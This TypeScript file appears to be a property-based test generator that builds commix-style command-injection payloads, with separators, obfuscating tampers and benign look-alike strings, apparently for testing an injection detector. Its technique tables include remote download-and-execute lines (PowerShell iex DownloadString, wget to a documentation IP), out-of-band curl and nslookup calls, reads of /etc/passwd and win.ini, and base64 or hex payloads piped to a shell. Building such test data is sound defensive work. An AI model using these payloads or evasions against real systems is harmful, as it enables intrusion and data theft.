// Command injection as automated tools send it (commix-style): a separator after the original
// value, a technique with random tags and numbers (an echo of arithmetic that proves execution,
// a time delay, a file write, a Windows for/set loop, PowerShell), then one or more tamper
// transforms the shell undoes (${IFS} and tabs for blanks, backslashes, carets, $@, empty
// variables, quotes inside words, rev/base64/hex decoding piped to a shell, sleep rewrites).
// rce.ts has the hand-written command grammar; this file is what tools build on top of it.
import fc from "fast-check";
import { rng, type R } from "./rng.js";

const tag = (r: R) => Array.from({ length: 6 }, () => String.fromCharCode(0x41 + r(26))).join("");

/** Unix techniques: [command line, whether it needs a shell's arithmetic/substitution]. */
const UNIX: ((r: R) => string)[] = [
  (r) => { const t = tag(r); return `echo ${t}$((${10 + r(80)}+${10 + r(80)}))$(echo ${t})${t}`; },
  (r) => { const t = tag(r); return `echo ${t}$(( ${r(90)} * ${r(90)} ))${t}`; },
  (r) => `sleep ${1 + r(9)}`,
  (r) => { const t = tag(r); return `str=$(echo ${t});str1=$(expr length "$str");if [ ${t.length} -ne $str1 ];then sleep 0;else sleep ${1 + r(9)};fi`; },
  (r) => `echo ${tag(r)}>/var/www/html/${tag(r).toLowerCase()}.txt`,
  (r) => `cat /etc/passwd`,
  (r) => `id`,
  (r) => `uname -a`,
  (r) => `ping -c ${1 + r(9)} 127.0.0.1`,
  (r) => `curl http://${tag(r).toLowerCase()}.oast.example/`,
  (r) => `nslookup ${tag(r).toLowerCase()}.oast.example`,
  (r) => `wget -q -O- http://198.51.100.${1 + r(250)}/${tag(r)}`,
];
const WINDOWS: ((r: R) => string)[] = [
  (r) => { const t = tag(r); return `for /f "tokens=*" %i in ('cmd /c "set /a (${r(90)}+${r(90)})"') do @set /p = ${t}%i${t}< nul`; },
  (r) => `powershell.exe -InputFormat none Start-Sleep -s ${1 + r(9)}`,
  (r) => `timeout /T ${1 + r(9)}`,
  (r) => `ping -n ${1 + r(9)} 127.0.0.1`,
  (r) => `powershell -c "iex(New-Object Net.WebClient).DownloadString('http://198.51.100.${1 + r(250)}/a')"`,
  (r) => `cmd /c "set /a ${r(90)}*${r(90)}"`,
  () => `whoami`,
  () => `type C:\\Windows\\win.ini`,
];

/** Tampers on a Unix command line (applied to its words and blanks as the tools do). */
const WORD = /\b(echo|sleep|cat|id|uname|ping|curl|nslookup|wget|expr|str|str1)\b/g;
const UNIX_TAMPERS: [string, (s: string, r: R) => string][] = [
  ["space2ifs", (s) => s.replace(/ /g, "${IFS}")],
  ["space2ifs9", (s) => s.replace(/ /g, "$IFS$9")],
  ["space2htab", (s) => s.replace(/ /g, "\t")],
  ["backslashes", (s) => s.replace(WORD, (w) => w.split("").join("\\"))],
  ["dollaratsigns", (s) => s.replace(WORD, (w) => w.split("").join("$@"))],
  ["doublequotes", (s) => s.replace(WORD, (w) => w.split("").join("\"\""))],
  ["singlequotes", (s) => s.replace(WORD, (w) => w.split("").join("''"))],
  ["uninitializedvariable", (s, r) => s.replace(WORD, (w) => w.split("").join(`\${${String.fromCharCode(0x61 + r(26))}}`))],
  ["emptyvariable", (s) => s.replace(WORD, (w) => w + "$u")],
  ["slash2env", (s) => s.replace(/\//g, "${PATH%%u*}")],
  ["sleep2usleep", (s) => s.replace(/\bsleep (\d)/g, "usleep $1000000")],
  ["sleep2timeout", (s) => s.replace(/\bsleep (\d)/g, "timeout $1 ping localhost")],
  ["base64", (s) => `echo ${Buffer.from(s).toString("base64")}|base64 -d|sh`],
  ["hex", (s) => `echo ${Buffer.from(s).toString("hex")}|xxd -r -p|bash`],
  ["rev", (s) => `$(rev<<<'${[...s].reverse().join("")}')`],
  // (a short command: the scanner reads a command's first 512 bytes of arguments)
  ["printf", (s) => (s.length > 60 ? s : `$(printf '${[...s].map((c) => "\\x" + c.charCodeAt(0).toString(16).padStart(2, "0")).join("")}')`)],
];
const WINDOWS_TAMPERS: [string, (s: string, r: R) => string][] = [
  ["caret", (s) => s.replace(/\b(for|cmd|set|powershell|timeout|ping|whoami|type)\b/gi, (w) => w.split("").join("^"))],
  ["doublequotes", (s) => s.replace(/\b(powershell|timeout|ping|whoami)\b/gi, (w) => w.slice(0, 2) + "\"\"" + w.slice(2))],
  ["randomcase", (s, r) => s.replace(/[a-z]/gi, (c) => (r(2) ? c.toUpperCase() : c.toLowerCase()))],
  ["multiplespaces", (s, r) => s.replace(/ /g, () => " ".repeat(1 + r(3)))],
];

const UNIX_SEPARATORS = [";", "%0a", "&", "|", "&&", "||", "\n", "`", "$("];
const WINDOWS_SEPARATORS = ["&", "|", "&&", "||", "%0a"];
const PREFIXES = ["", "127.0.0.1", "1", "test", "'", "\"", "x'", "report.pdf"];

export interface CommixPayload { value: string; tampers: string[] }

export const commixAttack: fc.Arbitrary<CommixPayload> = fc
  .record({ seed: fc.nat(), windows: fc.boolean(), t: fc.nat(99), sep: fc.nat(99), pre: fc.constantFrom(...PREFIXES), tampers: fc.array(fc.nat(99), { minLength: 0, maxLength: 2 }) })
  .map(({ seed, windows, t, sep, pre, tampers }) => {
    const r = rng(seed);
    const techniques = windows ? WINDOWS : UNIX;
    const table = windows ? WINDOWS_TAMPERS : UNIX_TAMPERS;
    let cmd = techniques[t % techniques.length](r);
    const used: string[] = [];
    // an encoding tamper (base64, hex, rev, printf) wraps the whole line: once, and last
    for (const k of tampers) {
      const [name, f] = table[k % table.length];
      if (used.length && /^(base64|hex|rev|printf)$/.test(used[used.length - 1])) break;
      cmd = f(cmd, r);
      used.push(name);
    }
    const s = (windows ? WINDOWS_SEPARATORS : UNIX_SEPARATORS)[sep % (windows ? WINDOWS_SEPARATORS.length : UNIX_SEPARATORS.length)];
    // %0a is the tools' spelling of a newline: what the application reads after one URL decoding
    const sepText = s === "%0a" ? "\n" : s;
    // a quote the prefix opened is closed again after the command (x';cmd;' / ";cmd;")
    const quote = pre.endsWith("'") ? "'" : pre.endsWith("\"") ? "\"" : "";
    const close = s === "`" ? "`" : s === "$(" ? ")" : "";
    const value = `${pre}${sepText}${cmd}${close}${quote ? (windows ? "&" : ";") + quote : ""}`;
    return { value, tampers: used };
  });

/** Prose and code near the same words and syntax: jQuery `$(`, prices, timeouts, echo as a word. */
export const commixBenign: fc.Arbitrary<string> = fc.constantFrom(
  "Please echo the price$(5) back to me", "The timeout /t flag waits", "Set timeout / 30 minutes", "Call me at 5; echo is fine",
  "I earned $(500) last week; echo that", "timeout 5 minutes, then retry", "Use $(document).ready() in jQuery", "1;timeout is 5s",
  "echo chamber effect$(citation needed)", "for each item in (a, b) do nothing", "sleep well & see you at 5", "ping me | thanks",
  "Total: $((a+b)) is bash arithmetic, explained", "str=abc; str1=def", "if [ you ] then fine",
);
